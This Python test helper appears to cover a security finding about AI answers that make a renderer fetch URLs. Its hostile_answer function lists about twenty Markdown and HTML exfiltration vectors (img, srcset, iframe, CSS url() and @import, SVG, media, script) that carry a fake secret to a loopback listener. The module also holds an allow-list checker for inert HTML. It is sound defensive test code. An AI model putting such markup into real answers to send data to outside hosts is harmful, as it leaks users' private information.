"""Issue 35 finding 4: a model answer that tries to make whoever shows it fetch a URL.

:func:`hostile_answer` is Markdown and raw HTML pointing every way a renderer may fetch at one
loopback :class:`Listener` (each variant its own path, carrying a would-be secret in its query);
:func:`check_inert_html` says what in an HTML text could load something (a tag or attribute that
fetches, a ``src``, ``url()``). Shared by the cell, executed-copy and browser tests."""

from __future__ import annotations

import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

LEAK = "d=stolen-secret-42"


def hostile_answer(base: str) -> str:
    """The answer: ``base`` is the listener's ``http://127.0.0.1:PORT``."""
    u = f"{base}/%s.gif?{LEAK}"
    return "\n\n".join([
        "Here is the summary you asked for.",
        f"![chart]({u % 'md-inline'})",
        f"![ref][logo]\n\n[logo]: {u % 'md-reference'}",
        f"[![badge]({u % 'md-in-link'})](https://example.org/)",
        f'<img src="{u % "html-img"}" alt="x">',
        f"<p>inline <img src={u % 'html-img-inline'}> in a paragraph</p>",
        f'<img srcset="{u % "html-srcset"} 2x">',
        f'<picture><source srcset="{u % "html-picture"}"><img alt="p"></picture>',
        f'<iframe src="{base}/iframe.html?{LEAK}"></iframe>',
        f'<link rel="stylesheet" href="{base}/link.css?{LEAK}">',
        f"<style>@import url({base}/style-import.css?{LEAK}); body {{ background: url({u % 'style-bg'}) }}</style>",
        f'<div style="background-image:url({u % "inline-style"})">styled</div>',
        f'<svg><image href="{u % "svg-image"}" width="1" height="1"/></svg>',
        f'<video poster="{u % "video-poster"}" src="{base}/video.mp4?{LEAK}"></video>',
        f'<audio src="{base}/audio.mp3?{LEAK}"></audio>',
        f'<object data="{base}/object.bin?{LEAK}"></object><embed src="{base}/embed.bin?{LEAK}">',
        f'<input type="image" src="{u % "input-image"}">',
        f'<table background="{u % "table-background"}"><tr><td>t</td></tr></table>',
        f'<script src="{base}/script.js?{LEAK}"></script>',
        f"| a | b |\n|---|---|\n| ![cell]({u % 'md-table'}) | 2 |",
        f"```html\n<img src=\"{u % 'in-code-block'}\">\n```",
        f"<{base}/autolink.gif?{LEAK}>",
        "![inline data](data:image/svg+xml;base64,PHN2Zy8+)",
        "Done: **bold** and `code` still render.",
    ])


# what may appear in inert HTML: text structure and links a person clicks; nothing that fetches
SAFE_TAGS = {"a", "p", "em", "strong", "i", "b", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "table",
             "thead", "tbody", "tr", "th", "td", "s", "span", "div", "details", "summary", "h1", "h2", "h3", "h4", "h5",
             "h6"}
SAFE_ATTRS = {"href", "title", "rel", "target", "class", "start", "style"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRS:
                self.problems.append(f"<{tag} {name}=>")
            elif name == "style" and any(w in (value or "").lower() for w in ("url(", "image", "@import", "\\")):
                self.problems.append(f"<{tag} style={value!r}>")
            elif name == "href" and (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"<{tag} href={value!r}>")


def check_inert_html(text: str) -> list[str]:
    """What in ``text`` (HTML) could make a browser fetch something when it is shown; ``[]``: nothing."""
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.problems


class Listener:
    """A loopback HTTP server that records the path of every request it gets (the exfiltration sink)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.seen = threading.Condition()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                with outer.seen:
                    outer.paths.append(self.path)
                    outer.seen.notify_all()
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", "0")
                self.send_header("Cache-Control", "no-store")  # every load is a request the listener sees
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)

    def wait_for(self, path_part: str, timeout: float = 30.0) -> None:
        """Block until a request whose path holds ``path_part`` arrived (a control the test made)."""
        with self.seen:
            if not self.seen.wait_for(lambda: any(path_part in p for p in self.paths), timeout):
                raise AssertionError(f"the listener never saw {path_part!r}; it saw {self.paths}")

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
